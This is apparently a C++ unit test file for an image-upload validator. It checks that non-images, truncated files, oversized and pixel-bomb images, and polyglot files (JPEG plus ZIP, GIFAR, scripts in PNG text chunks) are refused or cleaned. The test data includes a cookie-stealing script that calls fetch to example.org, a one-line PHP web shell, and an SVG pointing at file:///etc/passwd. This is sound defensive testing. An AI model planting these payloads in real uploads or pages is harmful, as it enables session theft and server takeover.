#include "kit/image/format.hpp"
#include "kit/image/image.hpp"
#include "kit/image/test_pictures.hpp"

#include <doctest/doctest.h>

#include <chrono>

namespace {

using namespace image::testing;
using namespace std::string_literals;
using image::Refusal;

std::optional<Refusal> refusal_of(std::string_view bytes) {
    const auto made = image::render_here(bytes);
    return made ? std::nullopt : std::optional(made.error());
}

const std::string zip = "PK\3\4\x14\0\0\0\0\0 META-INF/MANIFEST.MF PK\5\6"s;
const std::string script = "<script>fetch('//example.org/'+document.cookie)</script><?php system($_GET[0]); ?>";

}

TEST_SUITE_BEGIN("unit");

TEST_CASE("only pictures by their own first bytes come to a decoder") {
    const std::vector<std::string> others{
        "",
        "\xff",
        "\xff\xd8",
        "hello, this is a photo.jpg",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/></svg>",
        "<?xml version='1.0'?><svg/>",
        "%PDF-1.7\n1 0 obj",
        zip,
        "BM\x36\0\0\0\0\0\0\0\x36\0\0\0"s,
        "II*\0\x08\0\0\0"s,
        "MM\0*\0\0\0\x08"s,
        "P6 1 1 255 \0\0\0"s,
        "8BPS\0\1"s,
        "\0\0\1\0\1\0\x10\x10"s,
        "push graphic-context\nfill 'url(https://example.org/)'",
        "#EXTM3U\n",
        "\xff\x0a"s,                                    // JPEG XL
        "\0\0\0\x0cJXL \r\n\x87\n"s,                    // in its container
        "\0\0\0\x0cjP  \r\n\x87\n"s,                    // JPEG 2000
        "\0\0\0\x18"
        "ftypisom\0\0\0\0mp41isom"s,       // a film
        "\0\0\0\x18"
        "ftypavis\0\0\0\0avisavif"s,
        "RIFF\x24\0\0\0WAVEfmt "s,
        "gimp xcf file\0"s,
        "v/1\x01"s,
        "%!PS-Adobe-3.0 EPSF-3.0",
        "SIMPLE  =                    T",
    };
    for (const std::string& one : others) {
        CAPTURE(one);
        CHECK_FALSE(image::format_of(one).has_value());
        CHECK(refusal_of(one) == Refusal::unknown_format);
    }
    // A mark further in, or a picture behind something else, counts for nothing.
    CHECK(refusal_of("GIF89" + jpeg) == Refusal::unknown_format);
    CHECK(refusal_of(zip + jpeg) == Refusal::unknown_format);
    CHECK(refusal_of("\n" + script + jpeg) == Refusal::unknown_format);
}

TEST_CASE("the beginning of any length of a picture is looked at without reading behind it") {
    for (const std::string& whole : {"RIFF\x10\0\0\0WEBPVP8 "s,
                                     "\0\0\0\x1c"
                                     "ftypavif"s,
                                     "\x89PNG\r\n\x1a\n"s, "GIF89a"s, "\xff\xd8\xff"s}) {
        CHECK(image::format_of(whole).has_value());
        for (std::size_t length = 0; length < whole.size(); ++length)
            CHECK_FALSE(image::format_of(std::string_view(whole).substr(0, length)).has_value());
    }
}

TEST_CASE("first bytes alone make no picture") {
    for (const std::string& one :
         {"\xff\xd8\xff"s, "\xff\xd8\xff\xe0\0\x10JFIF\0"s, "\x89PNG\r\n\x1a\n"s, "GIF89a"s, "GIF87a"s, "RIFF\x1a\0\0\0WEBPVP8L"s,
          "\0\0\0\x18"
          "ftypavif\0\0\0\0mif1avif"s,
          "\0\0\0\x18"
          "ftypheic\0\0\0\0mif1heic"s,
          "\xff\xd8\xff" + script, "GIF89a" + script, "\x89PNG\r\n\x1a\n" + zip}) {
        CAPTURE(one);
        CHECK(refusal_of(one) == Refusal::broken);
    }
}

TEST_CASE("a picture that was cut short is refused, wherever it was cut") {
    for (const std::string& whole : {jpeg, webp, avif, heic, fields_png(60, 40)}) {
        CAPTURE(whole.substr(0, 12));
        for (const std::size_t size : {whole.size() / 3, whole.size() / 2, whole.size() * 9 / 10}) {
            CAPTURE(size);
            CHECK(refusal_of(std::string_view(whole).substr(0, size)) == Refusal::broken);
        }
    }
    // The GIF has a second picture, and the first is whole at half of the file.
    CHECK(refusal_of(std::string_view(gif).substr(0, 80)) == Refusal::broken);
}

TEST_CASE("more bytes than a photo has are refused before anybody looks at them") {
    std::string large = jpeg;
    large.resize(image::max_bytes, '\0');
    CHECK_FALSE(refusal_of(large).has_value());
    large += '\0';
    CHECK(refusal_of(large) == Refusal::too_large);
    CHECK(refusal_of(std::string(image::max_bytes + 1, 'x')) == Refusal::too_large);
}

TEST_CASE("a header that promises too many pixels is refused before one is decoded") {
    const auto begun = std::chrono::steady_clock::now();
    CHECK(refusal_of(png({.width = 60'000, .height = 60'000}, stored("short"))) == Refusal::too_many_pixels);
    CHECK(refusal_of(png({.width = 20'001, .height = 1}, stored("short"))) == Refusal::too_many_pixels);
    CHECK(refusal_of(png({.width = 1, .height = 20'001}, stored("short"))) == Refusal::too_many_pixels);
    CHECK(refusal_of(png({.width = 8000, .height = 5001}, stored("short"))) == Refusal::too_many_pixels);
    // With all of its pixels there: 256 million of them in half a megabyte.
    const std::string bomb = empty_png({.width = 16'000, .height = 16'000, .colour = Colour::grey});
    CHECK(bomb.size() < 2'000'000);
    CHECK(refusal_of(bomb) == Refusal::too_many_pixels);

    std::string of_jpeg = jpeg;
    const std::size_t frame = of_jpeg.find("\xff\xc0");
    REQUIRE(frame != std::string::npos);
    of_jpeg.replace(frame + 5, 4, "\xff\xdc\xff\xdc");
    CHECK(refusal_of(of_jpeg) == Refusal::too_many_pixels);
    std::string of_gif = gif;
    const std::size_t first_picture = of_gif.find("\x2c\0\0\0\0"s);
    REQUIRE(first_picture != std::string::npos);
    of_gif.replace(6, 4, "\xff\xff\xff\xff").replace(first_picture + 5, 4, "\xff\xff\xff\xff");
    CHECK(refusal_of(of_gif) == Refusal::too_many_pixels);
    std::string of_avif = avif;
    const std::size_t extents = of_avif.find("ispe");
    REQUIRE(extents != std::string::npos);
    of_avif.replace(extents + 8, 8, big_endian(16'000, 4) + big_endian(16'000, 4));
    CHECK(refusal_of(of_avif) == Refusal::too_many_pixels);
    CHECK(std::chrono::steady_clock::now() - begun < std::chrono::seconds(5));
}

TEST_CASE("a file that is two things at once comes out as one") {
    const std::string with_tail = jpeg + zip + script;
    const std::string with_comment = jpeg.substr(0, 2) + "\xff\xfe" + big_endian(script.size() + 2, 2) + script + jpeg.substr(2);
    const std::string gifar = gif + zip;
    const std::string of_png = fields_png(60, 40) + script;
    const std::string in_png = empty_png({.width = 60, .height = 40, .more = chunk("tEXt", "Comment\0"s + script)});
    for (const std::string& one : {with_tail, with_comment, gifar, of_png, in_png, webp + zip}) {
        const auto made = image::render_here(one);
        REQUIRE(made.has_value());
        for (const image::Rendition& rendition : *made) {
            CHECK(rendition.bytes.find("PK\3\4") == std::string::npos);
            CHECK(rendition.bytes.find("MANIFEST") == std::string::npos);
            CHECK(rendition.bytes.find("<script") == std::string::npos);
            CHECK(rendition.bytes.find("<?php") == std::string::npos);
        }
    }
}
